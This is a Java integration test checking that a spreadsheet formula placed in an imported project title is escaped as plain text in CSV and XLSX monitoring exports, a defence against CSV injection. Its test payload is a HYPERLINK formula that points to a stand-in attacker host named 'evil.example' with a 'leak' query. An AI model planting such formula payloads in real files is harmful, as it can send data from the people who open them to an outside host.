package org.labourhub.projects.importing.sheet;

import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.labourhub.IntegrationTest;
import org.labourhub.platform.jobs.Jobs;
import org.labourhub.projects.importing.ImportJobs;
import org.labourhub.projects.importing.iati.IatiSamples;
import org.labourhub.projects.monitoring.MonitoringAndReportTest;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.test.web.servlet.MockMvc;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Locale;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;

/** A title that a spreadsheet would run as a formula reaches the anonymous monitoring exports as plain text (OWASP CSV injection). */
@IntegrationTest
@AutoConfigureMockMvc
class SpreadsheetFormulaTest {

    static final String FORMULA = "=HYPERLINK(\"https://evil.example/?leak\",\"Detalles\")";

    @Autowired MockMvc mvc;

    @Test
    void aFormulaInATitleIsWrittenAsText(@Autowired Jobs jobs) throws Exception {
        ImportJobs.upload(mvc, jobs, "/projects/import/iati", "formula.xml", IatiSamples.file(
                MonitoringAndReportTest.stuckActivity("XI-TEST-FORMULA", FORMULA, "SV")), StandardCharsets.UTF_8);

        String csv = mvc.perform(get("/projects/monitoring.csv").locale(Locale.forLanguageTag("es")))
                .andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
        assertThat(csv).contains("\"'=HYPERLINK(\"\"https://evil.example/?leak\"\",\"\"Detalles\"\")\"")
                .doesNotContain(",\"=HYPERLINK");

        byte[] xlsx = mvc.perform(get("/projects/monitoring.xlsx").locale(Locale.forLanguageTag("es")))
                .andReturn().getResponse().getContentAsByteArray();
        var texts = new ArrayList<String>();
        var types = new ArrayList<CellType>();
        try (var book = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            book.getSheetAt(0).forEach(row -> row.forEach(cell -> {
                types.add(cell.getCellType());
                if (cell.getCellType() == CellType.STRING) {
                    texts.add(cell.getStringCellValue());
                }
            }));
        }
        assertThat(texts).contains("'" + FORMULA).noneMatch(t -> t.startsWith("="));
        assertThat(types).doesNotContain(CellType.FORMULA).as("budgets stay numbers").contains(CellType.NUMERIC);
    }
}
